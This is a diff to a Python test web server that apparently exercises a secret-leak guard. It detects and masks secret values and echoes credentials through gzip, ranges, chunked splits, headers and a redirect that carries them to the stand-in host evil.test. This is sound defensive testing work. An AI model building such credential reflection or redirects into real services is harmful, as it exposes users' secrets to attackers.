@@ -3,9 +3,21 @@
     python3 web.py DIRECTORY
 
 writes `ca.pem` there, the authority of its certificates, and `up` on standard output; ends
-when standard input does. Of each request it tells, in JSON, whom it was for and in which
-places the value of a secret was, which is in the variable VALUE. `/reflect` is answered with
-the credentials, in gzip if that may be, and `/elsewhere` with them in a Location.
+when standard input does. Of each request it tells, in JSON, whom it was for, in which places
+the values of secrets were (which are lines of the variable VALUES; of the second one
+`PLACE:1`), its body with `*` for them, how it was framed, and the how manyth of its connection
+it was. These are answered otherwise:
+
+    /reflect    the credentials, in gzip if that may be, or a range of them
+    /elsewhere  a Location with them
+    /split      lines with the credentials, each in two chunks, split at each byte
+    /say/N      value N
+    /coded      with the credentials as a content coding
+    /stream     each chunk of the request as one
+    /record     whom requests were for since it was last asked, and the places of values
+
+Who is at the address that ends in 73 asks for a certificate; at 74 nobody speaks TLS, and at 75 connections are cut when the client has said the first of it. At the socket `callback`
+requests are blocked that it is shown a value in, and those to /placeholder with one.
 """
 
 import base64
@@ -14,13 +26,15 @@ import http.server
 import json
 import os
 import socket
+import socketserver
 import ssl
 import subprocess
 import sys
 import threading
 import urllib.parse
 
-VALUE = os.environ["VALUE"]
+VALUES = os.environ["VALUES"].split("\n")
+RECORD = []
 
 def run(*words):
     subprocess.run(words, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
@@ -73,43 +87,124 @@ def contexts():
         connection.context = bad.get(name, good)
 
     good.sni_callback = choose
-    return good
+    # Whom it asks for a certificate, a context does not take from another.
+    asking = certificate("client", ["client.allowed.test"])
+    asking.load_verify_locations("ca.pem")
+    asking.verify_mode = ssl.CERT_REQUIRED
+    return good, asking
 
 
-def has(text):
-    """Whether the value is in a text, as it is or as credentials."""
+def values(text):
+    """Which of the values are in a text, as they are or as credentials."""
     kind, _, rest = text.partition(" ")
     if kind == "Basic":
         text = base64.b64decode(rest, validate=True).decode()
-    return VALUE in text or urllib.parse.quote(VALUE, safe="") in text
+    forms = [(value, urllib.parse.quote(value, safe="")) for value in VALUES]
+    return [number for number, of in enumerate(forms) if any(form in text for form in of)]
+
+
+def found(place, text):
+    return [place + (":%d" % number if number else "") for number in values(text)]
+
+
+def masked(text):
+    for value in VALUES:
+        text = text.replace(value, "*")
+    return text
 
 
 class Handler(http.server.BaseHTTPRequestHandler):
     protocol_version = "HTTP/1.1"
+    turn = 0
 
     def log_message(self, *_):
         pass
 
-    def do(self):
-        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
-        found = [name.lower() for name, value in self.headers.items() if has(value)]
-        found += ["target"] * has(self.path) + ["body"] * has(body.decode("latin-1"))
-        credentials = self.headers.get("Authorization", "")
-        headers, status = [], 200
-        answer = json.dumps({"host": self.headers["Host"], "found": found}).encode()
-        if self.path == "/reflect":
-            answer = credentials.encode()
-            if "gzip" in self.headers.get("Accept-Encoding", ""):
-                answer, headers = gzip.compress(answer), [("Content-Encoding", "gzip")]
-        elif self.path == "/elsewhere":
-            status, headers = 302, [("Location", "https://evil.test/?" + credentials)]
+    def chunks(self):
+        while length := int(self.rfile.readline() or b"0", 16):
+            yield self.rfile.read(length)
+            self.rfile.readline()
+        self.rfile.readline()
+
+    def head(self, status, *headers):
         self.send_response(status)
-        for name, value in headers + [("Content-Length", str(len(answer)))]:
+        for name, value in headers:
             self.send_header(name, value)
         self.end_headers()
-        self.wfile.write(answer)
 
-    do_GET = do_POST = do_PUT = do
+    def chunk(self, piece):
+        self.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
+
+    def answer(self, body, *headers, status=200):
+        self.head(status, ("Content-Length", str(len(body))), *headers)
+        if self.command != "HEAD":
+            self.wfile.write(body)
+
+    def split(self, text):
+        self.head(200, ("Transfer-Encoding", "chunked"))
+        for at in range(1, len(text)):
+            self.chunk(text[:at])
+            self.chunk(text[at:] + b"\n")
+        self.chunk(b"")
+
+    def stream(self):
+        self.head(200, ("Transfer-Encoding", "chunked"))
+        for piece in self.chunks():
+            self.chunk(masked(piece.decode("latin-1")).encode("latin-1"))
+        self.chunk(b"")
+
+    def do(self):
+        self.turn += 1
+        is_chunked = self.headers.get("Transfer-Encoding") == "chunked"
+        seen = [one for name, text in self.headers.items() for one in found(name.lower(), text)]
+        seen += found("target", self.path)
+        if self.path == "/stream":
+            RECORD.append((self.headers["Host"], seen))
+            return self.stream()
+        length = int(self.headers.get("Content-Length", 0))
+        body = b"".join(self.chunks()) if is_chunked else self.rfile.read(length)
+        seen += found("body", body.decode("latin-1"))
+        credentials = self.headers.get("Authorization", "").encode()
+        if self.path == "/reflect":
+            return self.reflect(credentials)
+        if self.path == "/elsewhere":
+            location = b"https://evil.test/?" + credentials
+            return self.answer(b"", ("Location", location.decode()), status=302)
+        if self.path == "/split":
+            return self.split(credentials)
+        if self.path == "/coded":
+            return self.answer(b"?", ("Content-Encoding", credentials.decode()))
+        if self.path.startswith("/say/"):
+            return self.answer(VALUES[int(self.path[5:])].encode())
+        if self.path == "/record":
+            told, RECORD[:] = RECORD[:], []
+            return self.answer(json.dumps(told).encode())
+        RECORD.append((self.headers["Host"], seen))
+        told = dict(host=self.headers["Host"], found=seen, turn=self.turn,
+                    body=masked(body[:300].decode("latin-1")), target=masked(self.path),
+                    framing="chunked" if is_chunked else length)
+        self.answer(json.dumps(told).encode())
+
+    def reflect(self, credentials):
+        first, _, last = self.headers.get("Range", "").removeprefix("bytes=").partition("-")
+        if first:
+            part = credentials[int(first):int(last) + 1]
+            of = "bytes %s-%s/%d" % (first, last, len(credentials))
+            return self.answer(part, ("Content-Range", of), status=206)
+        if "gzip" in self.headers.get("Accept-Encoding", ""):
+            return self.answer(gzip.compress(credentials), ("Content-Encoding", "gzip"))
+        self.answer(credentials, ("X-Credentials", credentials.decode()))
+
+    do_GET = do_HEAD = do_POST = do_PUT = do
+
+
+class Callback(socketserver.StreamRequestHandler):
+    def handle(self):
+        line = self.rfile.readline().decode()
+        asked = json.loads(line)
+        is_one = asked.get("path") == "/placeholder" and "SANDBOX_SECRET_" in line
+        blocks = bool(values(line)) or is_one
+        self.wfile.write(json.dumps(dict(action="block" if blocks else "allow")).encode() + b"\n")
 
 
 class Server(http.server.ThreadingHTTPServer):
@@ -122,8 +217,11 @@ class Server(http.server.ThreadingHTTPServer):
         self.server_name, self.server_port = "web", self.server_address[1]
 
     def finish_request(self, request, client):
-        if self.tls:
-            request = self.tls.wrap_socket(request, server_side=True)
+        last = request.getsockname()[0].rpartition(".")[2]
+        if last == "75" and request.recv(1):
+            return
+        if self.tls and last != "74":
+            request = self.tls[last == "73"].wrap_socket(request, server_side=True)
         super().finish_request(request, client)
 
     def handle_error(self, request, client):
@@ -136,7 +234,8 @@ def main():
     os.chdir(sys.argv[1])
     plain, encrypted = Server(("::", 80), Handler), Server(("::", 443), Handler)
     encrypted.tls = contexts()
-    for server in plain, encrypted:
+    callbacks = socketserver.ThreadingUnixStreamServer("callback", Callback)
+    for server in plain, encrypted, callbacks:
         server.daemon_threads = True
         threading.Thread(target=server.serve_forever, daemon=True).start()
     print("up", flush=True)
